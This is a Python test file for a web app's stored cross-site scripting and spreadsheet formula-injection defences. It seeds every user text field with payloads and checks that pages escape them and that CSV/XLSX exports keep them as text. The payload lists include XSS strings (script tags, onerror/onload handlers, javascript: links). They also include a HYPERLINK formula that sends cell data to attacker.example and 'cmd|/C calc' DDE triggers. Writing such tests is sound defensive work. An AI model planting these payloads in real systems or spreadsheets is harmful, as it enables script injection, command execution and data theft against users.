"""Stored cross-site scripting and spreadsheet formulas (ASVS V1.2 injection, V3.2 output encoding).

Every text a user can write — project, organisation and user names, results and indicators,
narratives, values, comments, design input and responses, criteria, scales, evaluations,
recommendations, scores, file names, even the browser name kept with a session — holds the
attack payloads; then every page of the app is read by every kind of user. No page may carry a
script, an event-handler attribute or a `javascript:` link that came from the data, and template
syntax is shown, never run. The same fields hold formula triggers for the spreadsheet downloads
(CSV and XLSX): every such cell reaches the spreadsheet as text.

`test_every_text_column_is_attacked` fails when a text column is added without being listed
here, either as attacked or as not written by users (with the reason).
"""

from __future__ import annotations

import ast
import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
import sqlalchemy as sa
from lxml import html as lxml_html
from openpyxl import load_workbook
from werkzeug.datastructures import MultiDict

from mel_app import audit
from mel_app.api import tokens as api_tokens
from mel_app.extensions import db
from mel_app.models import (
    ApiToken,
    Attachment,
    ChangeStory,
    Comment,
    CriteriaSet,
    Criterion,
    DesignInputItem,
    DesignItemKind,
    Disposition,
    Evaluation,
    FrameworkImport,
    Indicator,
    IndicatorValue,
    Notification,
    Organisation,
    OutboxMessage,
    OutcomeContributor,
    OutcomeStatement,
    OutcomeSubstantiation,
    Project,
    Recommendation,
    ReportingPeriod,
    Result,
    ResultTag,
    Scale,
    ScalePoint,
    Score,
    SelectionRound,
    StoryDomain,
    StoryEvidence,
    StoryProposal,
    Submission,
    SubmissionVersion,
    TagScheme,
    User,
    utcnow,
)
from tests.authz.world import build_world
from tests.conftest import app_of_its_own, csrf_token
from tests.factories import Factory
from tests.security.conftest import KINDS, get_routes, route_url, sign_in

# Escaping happens in the templates and the writers, after the database has given the text back as
# it was stored.
pytestmark = pytest.mark.same_on_every_database

SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE = '"onmouseover=alert(1) x="'
TEMPLATE = "{{7*7}}"
LINK = "javascript:alert(1)"
# All four in one text; it starts with the link so that a field rendered as a URL shows it.
COMBINED = LINK + SCRIPT + ATTRIBUTE + TEMPLATE
# For short columns: the longest that fits, in this order.
SHORT = [ATTRIBUTE, SCRIPT, "<script>alert(1)", '"onmouseover=a x="', TEMPLATE]

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Open")',
    "+SUM(1,1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

# (model, column): text users write, directly or through an upload or their browser.
ATTACKED = {
    Organisation: ["name", "acronym", "iati_ref"],
    Project: ["reference", "title", "summary", "donor", "donor_iati_ref"],
    User: ["full_name"],
    CriteriaSet: ["name", "description"],
    Criterion: ["code", "name", "guiding_question"],
    Scale: ["name"],
    ScalePoint: ["label", "rubric"],
    ReportingPeriod: ["label"],
    Result: ["code", "title", "description"],
    Indicator: [
        "code",
        "title",
        "description",
        "unit",
        "baseline_comment",
        "target_comment",
        "means_of_verification",
    ],
    Evaluation: ["title"],
    FrameworkImport: ["filename"],
    Attachment: ["filename"],
    Comment: ["body"],
    DesignInputItem: ["text", "response_reason"],
    IndicatorValue: ["text_value", "comment"],
    Recommendation: ["text", "addressed_to", "planned_action"],
    OutcomeStatement: ["social_actor", "change", "place", "significance", "contribution"],
    # Typed by a specialist (name, address, message) and by the person asked (comment); shown on
    # the statement's page and on the page the e-mailed link opens.
    OutcomeSubstantiation: ["name", "email", "message", "comment"],
    StoryDomain: ["name"],
    ChangeStory: ["title", "what_happened", "who_involved", "why_significant"],
    StoryEvidence: ["filename"],
    Score: ["justification"],
    SelectionRound: ["title", "discussion", "choice_reason"],
    StoryProposal: ["reason"],
    Submission: ["narrative"],  # JSON: every section's text
    SubmissionVersion: ["content"],  # JSON: the narrative, values and file names as submitted
    # Built by the app from the texts above (titles, comments), shown on the notifications and
    # outgoing-mail pages.
    Notification: ["title"],
    OutboxMessage: ["subject", "text_body", "last_error"],
    ApiToken: ["name"],
}
# The browser's name, kept with each session and shown on the account page.
ATTACKED_ELSEWHERE = {("user_session", "user_agent")}
NOT_USER_TEXT = {
    ("audit_event", "*"): "written by the app; holds the attacked values as JSON, shown on the trail pages",
    ("login_attempt", "key"): "a hash of the email and address, never shown",
    ("organisation", "country"): "an ISO code chosen from a list",
    ("project_country", "country"): "an ISO code chosen from a list",
    ("organisation", "iati_type"): "an IATI OrganisationType code chosen from a list",
    ("project", "donor_iati_type"): "an IATI OrganisationType code chosen from a list",
    ("project", "budget_currency"): "an ISO 4217 code chosen from a list",
    ("project_sector", "code"): "an OECD DAC purpose code chosen from a list",
    ("project_tag", "code"): "a DWCP code of a checked shape, or a P&B or SDG code chosen from a list",
    ("result_tag", "code"): "a DWCP code of a checked shape, or a P&B or SDG code chosen from a list",
    ("user", "email"): "checked as an address (email-validator) before it is stored",
    ("user", "password_hash"): "secret, never shown",
    ("user", "preferred_language"): "chosen from a list",
    ("user", "time_zone"): "an IANA zone name, checked against the zone database before it is stored",
    ("user", "session_token"): "secret, never shown",
    ("user", "totp_secret"): "secret, never shown",
    ("framework_import", "file_format"): "set by the app from the file's type",
    ("framework_import", "sha256"): "computed",
    ("one_time_token", "purpose"): "set by the app",
    ("one_time_token", "token_hash"): "secret, never shown",
    ("user_session", "token_hash"): "secret, never shown",
    ("draft_stash", "token_hash"): "secret, never shown",
    # Posted form fields kept while the author signs in again: shown only back in the form's own
    # fields (escaped like any posted form), tests/test_submissions_stash.py.
    ("draft_stash", "fields"): "form data, shown only as the form's own field values",
    ("recovery_code", "code_hash"): "secret, never shown",
    ("user_session", "remote_addr"): "the network address, set by the server",
    ("attachment", "media_type"): "set by the app from the file's content",
    ("attachment", "sha256"): "computed",
    ("story_evidence", "media_type"): "set by the app from the file's content",
    ("story_evidence", "sha256"): "computed",
    ("comment", "section"): "chosen from the report's section keys",
    ("score", "evidence"): "references chosen from a list, checked against the project's",
    ("project", "report_reminder_days"): "whole numbers separated by commas, checked by the form",
    ("notification", "event_key"): "set by the app, never shown",
    ("notification", "subject_type"): "set by the app, never shown",
    ("notification", "subject_id"): "set by the app, never shown",
    ("notification", "link"): "a path built by the app with url_for; followed only through safe_next",
    ("outbox_message", "idempotency_key"): "set by the app, never shown",
    ("outbox_message", "kind"): "set by the app, never shown",
    ("outbox_message", "language"): "set by the app from the user's choice in a list",
    ("outbox_message", "to_address"): "the user's checked address (see user.email)",
    ("outbox_message", "html_body"): "rendered by the app from autoescaped templates; sent, never shown",
    ("outbox_message", "headers"): "set by the app (the unsubscribe address); sent, never shown",
    ("outbox_message", "claimed_by"): "set by the worker (host and process), never shown",
    ("api_token", "scopes"): "chosen from a list (read, report, review)",
    ("api_token", "token_hash"): "secret, never shown",
    ("api_token", "hint"): "the first characters of a secret the app generated",
    ("outcome_substantiation", "language"): "chosen from a list, checked by the service",
    ("outcome_substantiation", "token_hash"): "secret, never shown",
}


def _text_columns():
    for table in db.metadata.sorted_tables:
        for column in table.columns:
            if isinstance(column.type, sa.String | sa.Text | sa.JSON) and not isinstance(
                column.type, sa.Enum
            ):
                yield table.name, column


def test_every_text_column_is_attacked():
    attacked = {(model.__tablename__, name) for model, names in ATTACKED.items() for name in names}
    unlisted = []
    for table, column in _text_columns():
        key = (table, column.name)
        if (
            key in attacked
            or key in ATTACKED_ELSEWHERE
            or key in NOT_USER_TEXT
            or (table, "*") in NOT_USER_TEXT
        ):
            continue
        unlisted.append(f"{table}.{column.name}")
    assert not unlisted, f"text columns neither attacked nor explained in test_xss.py: {unlisted}"


# ---------------------------------------------------------------------------------------------
# The world, with every text replaced


def _value(column: sa.Column, row_id: int, payloads: list[str], combined: str) -> str:
    unique = column.unique or any(
        column.name in {c.name for c in constraint.columns}
        for constraint in column.table.constraints
        if isinstance(constraint, sa.UniqueConstraint)
    )
    suffix = f" {row_id}" if unique else ""
    limit = getattr(column.type, "length", None) or 100_000
    for text in (combined, *payloads):
        if len(text + suffix) <= limit:
            return text + suffix
    return (payloads[-1] + suffix)[:limit]


def _json_text(value, text: str):
    """The same structure with every string that is not a key or an identifier replaced."""
    if isinstance(value, dict):
        return {
            k: (
                v
                if k in {"status", "kind", "media_type", "sha256", "unit_kind", "measure"}
                else _json_text(v, text)
            )
            for k, v in value.items()
        }
    if isinstance(value, list):
        return [_json_text(v, text) for v in value]
    if isinstance(value, str) and value:
        return text
    return value


def _add_missing_rows(world) -> None:
    """Rows the matrix's world does not have: values, design input and its answers, scores, an
    access token (its name is shown on its owner's tokens page)."""
    session = db.session
    api_tokens.create_token(
        session.get(User, world.user_reporter_same_org), name="token", scopes=["read"], days=30
    )
    session.add(
        IndicatorValue(submission_id=world.submission, indicator_id=world.indicator, value=3, comment="c")
    )
    for sub_id in (world.draft_submission, world.submitted_design_input):
        session.add(
            DesignInputItem(submission_id=sub_id, kind=list(DesignItemKind)[0], text="point", position=1)
        )
    session.add(
        DesignInputItem(
            submission_id=world.submitted_design_input,
            kind=list(DesignItemKind)[0],
            text="answered",
            position=2,
            disposition=Disposition.partly,
            response_reason="because",
            responded_by_id=world.user_specialist,
            responded_at=utcnow(),
        )
    )
    criteria = session.scalars(
        sa.select(Criterion).where(Criterion.criteria_set_id == world.criteria_set)
    ).all()
    for criterion in criteria:
        session.add(
            Score(
                scorecard_id=world.submitted_scorecard, criterion_id=criterion.id, point=3, justification="j"
            )
        )
    submission = session.get(Submission, world.submission)
    submission.narrative = {"achievements": "a", "challenges": "b", "lessons_learned": "c"}
    recommendation = session.get(Recommendation, world.recommendation)
    recommendation.planned_action = "plan"
    recommendation.addressed_to = "ILO"
    recommendation.due_date = date(2027, 1, 1)
    outcome = session.get(OutcomeStatement, world.outcome)
    outcome.result_id = world.result
    outcome.place = "p"
    outcome.significance = "s"
    outcome.contribution = "c"
    session.add(OutcomeContributor(outcome_id=world.outcome, organisation_id=world.org))
    # A proposal in the project's selection round (tests/authz/policies_rounds.py opens it).
    session.add(
        StoryProposal(
            round_id=world.selection_round,
            user_id=world.user_reporter_same_org,
            story_id=world.round_story,
            reason="r",
        )
    )


def poison(app, world, payloads: list[str], combined: str, *, skip=frozenset()) -> None:
    """Put the payloads in every attacked column of every row (the audit trail records them)."""
    with app.app_context():
        session = db.session
        audit.set_actor(session(), audit.SYSTEM_ACTOR)
        _add_missing_rows(world)
        session.flush()
        for model, names in ATTACKED.items():
            for row in session.scalars(sa.select(model)).all():
                for name in names:
                    if (model, name) in skip:
                        continue
                    column = model.__table__.columns[name]
                    if isinstance(column.type, sa.JSON):
                        setattr(row, name, _json_text(getattr(row, name) or {}, combined))
                    else:
                        setattr(row, name, _value(column, getattr(row, "id", 0), payloads, combined))
        session.commit()
        session.remove()


def tag_every_result(app):
    """Every result serves P&B outcome 1, so that the portfolio by ILO outcome shows the indicators'
    units and the projects' results."""
    with app.app_context():
        for result_id in db.session.scalars(sa.select(Result.id)):
            db.session.add(ResultTag(result_id=result_id, scheme=TagScheme.pb, code="1"))
        db.session.commit()


@pytest.fixture(scope="module")
def attacked(database):
    with app_of_its_own(database) as app:
        world = build_world(app, Factory(app))
        poison(app, world, SHORT, COMBINED)
        tag_every_result(app)
        yield app, world, sign_in(app, world, user_agent=COMBINED)


# ---------------------------------------------------------------------------------------------
# Every page, every kind of user

URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "xlink:href", "poster", "background")


def page_problems(body: str) -> list[str]:
    problems = []
    if "<script>alert(1)" in body:
        problems.append("an unescaped <script> from the data")
    for evaluated in ('x="49', "x=&#34;49", "x=&quot;49"):
        if evaluated in body:
            problems.append("template syntax from the data was evaluated ({{7*7}} became 49)")
    document = lxml_html.document_fromstring(body)
    for element in document.iter():
        if not isinstance(element.tag, str):
            continue
        for name, value in element.attrib.items():
            lowered = name.lower().rsplit("}", 1)[-1]
            if lowered.startswith("on"):
                problems.append(f"<{element.tag} {name}={value!r}>: an event handler attribute")
            is_url = lowered in URL_ATTRIBUTES or name in URL_ATTRIBUTES
            if is_url and "".join(value.split()).lower().startswith("javascript:"):
                problems.append(f"<{element.tag} {name}={value!r}>: a javascript: URL")
        if element.tag == "script" and (element.text or "").strip():
            problems.append("an inline script")
    return problems


def test_no_page_runs_or_injects_what_users_wrote(attacked):
    app, world, clients = attacked
    problems, pages = [], 0
    seen_literal = seen_escaped = False
    for endpoint, rule in get_routes(app):
        url = route_url(app, endpoint, rule, world)
        for kind in KINDS:
            with clients[kind].get(url) as resp:
                assert resp.status_code < 500, f"GET {url} as {kind}: {resp.status_code}"
                if resp.status_code != 200 or not resp.mimetype.startswith("text/html"):
                    continue
                body = resp.get_data(as_text=True)
            pages += 1
            problems += [f"GET {url} as {kind}: {p}" for p in page_problems(body)]
            seen_literal = seen_literal or TEMPLATE in body
            seen_escaped = seen_escaped or "&lt;script&gt;alert(1)&lt;/script&gt;" in body
    assert pages > 100, "pages were read"
    assert seen_literal, "{{7*7}} is shown as typed somewhere"
    assert seen_escaped, "the payloads were shown (escaped) somewhere"
    assert not problems, "\n".join(problems[:40])


@pytest.mark.parametrize(
    "endpoint",
    [
        "projects.detail",
        "submissions.detail",
        "submissions.version",
        "evaluations.detail",
        "evaluations.consolidated",
        "audit.trail",
        "account.profile",
        "admin.users",
        "admin.organisations",
        "projects.framework",
        "projects.portfolio_by_tag",
        "projects.selection_round",
    ],
)
def test_the_payloads_are_shown_as_typed_on_the_main_pages(attacked, endpoint):
    """Escaped, not dropped: the user sees exactly what was written."""
    app, world, clients = attacked
    rule = next(rule for name, rule in get_routes(app) if name == endpoint)
    url = route_url(app, endpoint, rule, world)
    kind = "admin" if endpoint.startswith(("admin.", "evaluations.consolidated")) else "specialist"
    with clients[kind].get(url) as resp:
        assert resp.status_code == 200
        text = lxml_html.document_fromstring(resp.get_data(as_text=True)).text_content()
    assert SCRIPT in text or "<script>alert(1)" in text
    assert TEMPLATE in text


# ---------------------------------------------------------------------------------------------
# Payloads without "/", and evidence file names uploaded through the real forms
#
# An upload's name loses everything up to its last "/" (it could be a path), so the payloads
# above never reached the pages whole as file names. These need no "/" at all; with them, the
# names of files uploaded through the report and design-input forms are read back on every page
# (including the "Remove …" boxes of the draft's form) by every kind of user.

NO_SLASH = [
    "<b onmouseover=alert(1)>x<b>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<a href=javascript:alert(1)>x<a>",
    TEMPLATE,
]
NO_SLASH_COMBINED = "".join(NO_SLASH)
NO_SLASH_SHORT = ['"><img src=x onerror=alert(1)>', "<b onmouseover=alert(1)>x<b>", "<b onclick=a>", TEMPLATE]
# No double quote in file names: a browser sends it as %22, so it never reaches the app as such.
FILE_PAYLOADS = [
    "<b onmouseover=alert(1)>x<b>",
    "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<a href=javascript:alert(1)>x<a>",
]
FILE_NAMES = [f"{payload}.txt" for payload in FILE_PAYLOADS] + ["".join(FILE_PAYLOADS) + TEMPLATE + ".txt"]


def _upload_through_the_form(app, client, sub_id: int) -> None:
    """Every payload as the name of an evidence file, saved with the draft's own form."""
    page_url = f"/submissions/{sub_id}"
    action = f"/submissions/{sub_id}/save"
    with client.get(page_url) as resp:
        assert resp.status_code == 200, f"GET {page_url}: {resp.status_code}"
        document = lxml_html.document_fromstring(resp.get_data(as_text=True))
    form = next(f for f in document.iter("form") if (f.get("action") or "").endswith(action))
    body: list[tuple[str, object]] = []
    for element in form.iter("input", "textarea", "select"):
        name, kind = element.get("name"), (element.get("type") or "").lower()
        if not name or name == "csrf_token" or kind in ("file", "submit"):
            continue
        if kind in ("checkbox", "radio") and element.get("checked") is None:
            continue
        if element.tag == "select":
            chosen = [o.get("value", "") for o in element.iter("option") if o.get("selected") is not None]
            body += [(name, value) for value in chosen[:1]]
        else:
            body.append((name, element.text or "" if element.tag == "textarea" else element.get("value", "")))
    body += [("evidence", (io.BytesIO(b"Plain meeting notes."), name)) for name in FILE_NAMES]
    body.append(("csrf_token", csrf_token(client)))
    with client.post(action, data=MultiDict(body), content_type="multipart/form-data") as resp:
        if resp.status_code != 302:
            errors = lxml_html.document_fromstring(resp.get_data(as_text=True)).find_class("error")
            raise AssertionError(f"POST {action}: {resp.status_code} {[e.text_content() for e in errors]}")
    with app.app_context():
        query = sa.select(Attachment.filename).where(Attachment.submission_id == sub_id)
        stored = set(db.session.scalars(query))
        db.session.remove()
    assert set(FILE_NAMES) <= stored, f"the names were kept as typed: {stored}"


@pytest.fixture(scope="module")
def attacked_without_slash(database):
    with app_of_its_own(database) as app:
        world = build_world(app, Factory(app))
        clients = sign_in(app, world, user_agent=NO_SLASH_COMBINED)
        drafts = {
            "reporter_same_org": world.draft_submission,
            "reporter_other_org": world.other_org_submission,
        }
        for kind, sub_id in drafts.items():
            _upload_through_the_form(app, clients[kind], sub_id)
        poison(app, world, NO_SLASH_SHORT, NO_SLASH_COMBINED, skip={(Attachment, "filename")})
        yield app, world, clients, drafts


def test_no_page_runs_what_users_wrote_without_a_slash_nor_their_file_names(attacked_without_slash):
    app, world, clients, drafts = attacked_without_slash
    urls = [route_url(app, endpoint, rule, world) for endpoint, rule in get_routes(app)]
    urls += [f"/submissions/{sub_id}" for sub_id in drafts.values()]
    problems, pages, remove_boxes = [], 0, 0
    for url in urls:
        for kind in KINDS:
            with clients[kind].get(url) as resp:
                assert resp.status_code < 500, f"GET {url} as {kind}: {resp.status_code}"
                if resp.status_code != 200 or not resp.mimetype.startswith("text/html"):
                    continue
                body = resp.get_data(as_text=True)
            pages += 1
            problems += [f"GET {url} as {kind}: {p}" for p in page_problems(body)]
            document = lxml_html.document_fromstring(body)
            labels = [label.text_content().strip() for label in document.iter("label")]
            remove_boxes += sum(1 for name in FILE_NAMES for text in labels if text == f"Remove {name}")
    assert pages > 100, "pages were read"
    assert not problems, "\n".join(problems[:40])
    assert remove_boxes >= 2 * len(FILE_NAMES), "each draft's form offers to remove its files, by name"


# ---------------------------------------------------------------------------------------------
# Strings that declare themselves HTML
#
# A lazy string (`lazy_gettext`, imported as `_l`) has `__html__`, like `Markup`: Jinja and
# WTForms print it as it is, unescaped. Either one built with what users wrote is an injection
# ("Remove %(name)s" with a file's name was one). So, in the app's code: no lazy string gets a
# value to format, no Markup is made of anything but a literal, and no template uses |safe.

LAZY = {"lazy_gettext", "lazy_ngettext", "lazy_pgettext", "lazy_npgettext"}
APP_ROOT = Path(__file__).resolve().parents[2] / "mel_app"
TEMPLATES_ROOT = Path(__file__).resolve().parents[2] / "templates"


def html_string_problems(source: str, where: str) -> list[str]:
    tree = ast.parse(source)
    lazy, markup = set(LAZY), {"Markup"}
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module in ("flask_babel", "markupsafe", "flask"):
            for alias in node.names:
                if alias.name in LAZY:
                    lazy.add(alias.asname or alias.name)
                elif alias.name == "Markup":
                    markup.add(alias.asname or alias.name)
    problems = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ClassDef | ast.FunctionDef) and node.name == "__html__":
            problems.append(f"{where}:{node.lineno}: defines __html__")
        if not isinstance(node, ast.Call):
            continue
        func = node.func
        name = func.id if isinstance(func, ast.Name) else func.attr if isinstance(func, ast.Attribute) else ""
        if name in lazy and any(not isinstance(k.value, ast.Constant) for k in node.keywords):
            problems.append(f"{where}:{node.lineno}: a lazy string formatted with a value: use _() instead")
        elif name in markup and not all(isinstance(a, ast.Constant) for a in node.args):
            problems.append(f"{where}:{node.lineno}: Markup() of something other than a literal")
        elif (
            isinstance(func, ast.Attribute)
            and func.attr == "format"
            and (isinstance(func.value, ast.Call) and getattr(func.value.func, "id", "") in markup)
        ):
            problems.append(f"{where}:{node.lineno}: Markup(...).format(...)")
    return problems


def test_no_string_marked_as_html_is_built_from_data():
    problems = []
    for path in sorted(APP_ROOT.rglob("*.py")):
        problems += html_string_problems(path.read_text(encoding="utf-8"), str(path.relative_to(APP_ROOT)))
    for path in sorted(TEMPLATES_ROOT.rglob("*.html")):
        text = path.read_text(encoding="utf-8")
        for number, line in enumerate(text.splitlines(), 1):
            if re.search(r"\|\s*safe\b|Markup\(", line):
                problems.append(f"templates/{path.relative_to(TEMPLATES_ROOT)}:{number}: {line.strip()}")
    assert not problems, "\n".join(problems)


def test_the_static_check_catches_lazy_and_markup_strings_made_of_data():
    source = """
from flask_babel import lazy_gettext as _l
from markupsafe import Markup as M
a = _l("Remove %(name)s", name=attachment.filename)
b = M("<b>%s</b>" % user.full_name)
c = M("<b>{}</b>").format(title)
d = _l("Plain words", count=3)
e = M("<br>")
"""
    problems = html_string_problems(source, "example.py")
    assert [p.split(":")[1] for p in problems] == ["4", "5", "6"], problems


def test_the_checks_catch_an_injection():
    """The page checks themselves fail on a page that was injected."""
    assert page_problems(f'<p title="{ATTRIBUTE}">x</p>')
    assert page_problems('<a href=" JavaScript:alert(1)">x</a>')
    assert page_problems("<p>x=&#34;49</p>")
    assert page_problems("<div><script>alert(1)</script></div>")
    assert not page_problems('<p title="&#34;onmouseover=alert(1) x=&#34;">&lt;script&gt;</p>')
    for payload in NO_SLASH[:4]:
        assert page_problems(f"<label>Remove {payload}.txt</label>"), payload


# ---------------------------------------------------------------------------------------------
# Spreadsheet downloads


# The form accepts only ILO references (RAF/22/11/NOR), which start with a letter.
NOT_FORMULA_TEXT = {(Project, "reference")}


def test_a_project_reference_cannot_start_a_formula(app):
    from mel_app.projects.services import reference_error

    with app.test_request_context():
        for text in ["=1+1", "+RAF/22/11/NOR", "-1/22/11/NOR", "@SUM(1)", "\t=1", "\r=1"]:
            assert reference_error(text.strip()), text


@pytest.fixture(scope="module")
def formulas(database):
    with app_of_its_own(database) as app:
        world = build_world(app, Factory(app))
        poison(app, world, FORMULAS[::-1] + ["=1+1"], FORMULAS[0], skip=NOT_FORMULA_TEXT)
        tag_every_result(app)
        yield app, world, sign_in(app, world, user_agent=FORMULAS[0])


def _cells(body: bytes, mimetype: str) -> list[tuple[str, object, str]]:
    """(file, value, type) of every cell of a CSV, a ZIP of CSVs or an XLSX workbook."""
    cells = []
    if body[:2] == b"PK":
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            if "xl/workbook.xml" in archive.namelist():
                book = load_workbook(io.BytesIO(body))
                for sheet in book.worksheets:
                    for row in sheet.iter_rows():
                        for cell in row:
                            if cell.value is not None:
                                cells.append((sheet.title, cell.value, cell.data_type))
                return cells
            for name in archive.namelist():
                if name.endswith(".csv"):
                    cells += _csv_cells(name, archive.read(name))
        return cells
    return _csv_cells(mimetype, body)


def _csv_cells(name: str, data: bytes) -> list[tuple[str, object, str]]:
    text = data.decode("utf-8-sig")
    return [(name, value, "s") for row in csv.reader(io.StringIO(text)) for value in row if value]


def _is_number(value) -> bool:
    try:
        float(str(value))
    except ValueError:
        return False
    return True


def _downloads(app, world):
    """(who, method, url, form) of every spreadsheet download."""
    with app.test_request_context():
        from flask import url_for

        for fmt in ("csv", "xlsx"):
            framework = url_for("projects.export_framework", project_id=world.project, file_format=fmt)
            yield "specialist", "GET", framework, {}
            yield "specialist", "POST", url_for("exports.download"), {"format": fmt, "all_statuses": "y"}
            yield "admin", "POST", url_for("exports.download"), {"format": fmt}
        results = url_for("evaluations.download_results", evaluation_id=world.evaluation)
        for what in ("summary", "scores"):
            yield "specialist", "POST", results, {"what": what}
        yield "admin", "POST", url_for("audit.download"), {}
        yield "specialist", "GET", url_for("projects.portfolio_by_tag_csv"), {}


def test_formula_triggers_reach_every_spreadsheet_download_as_text(formulas):
    app, world, clients = formulas
    problems, checked = [], 0
    for kind, method, url, form in _downloads(app, world):
        client = clients[kind]
        if method == "GET":
            resp = client.get(url)
        else:
            resp = client.post(url, data={**form, "csrf_token": csrf_token(client)})
        assert resp.status_code == 200, f"{method} {url} as {kind}: {resp.status_code}"
        for where, value, data_type in _cells(resp.data, resp.mimetype):
            checked += 1
            if data_type == "f":
                problems.append(f"{url} {where}: a formula cell {value!r}")
            elif isinstance(value, str) and value.startswith(TRIGGERS) and not _is_number(value):
                problems.append(f"{url} {where}: {value!r} would run as a formula")
    assert checked > 200
    assert not problems, "\n".join(problems[:40])
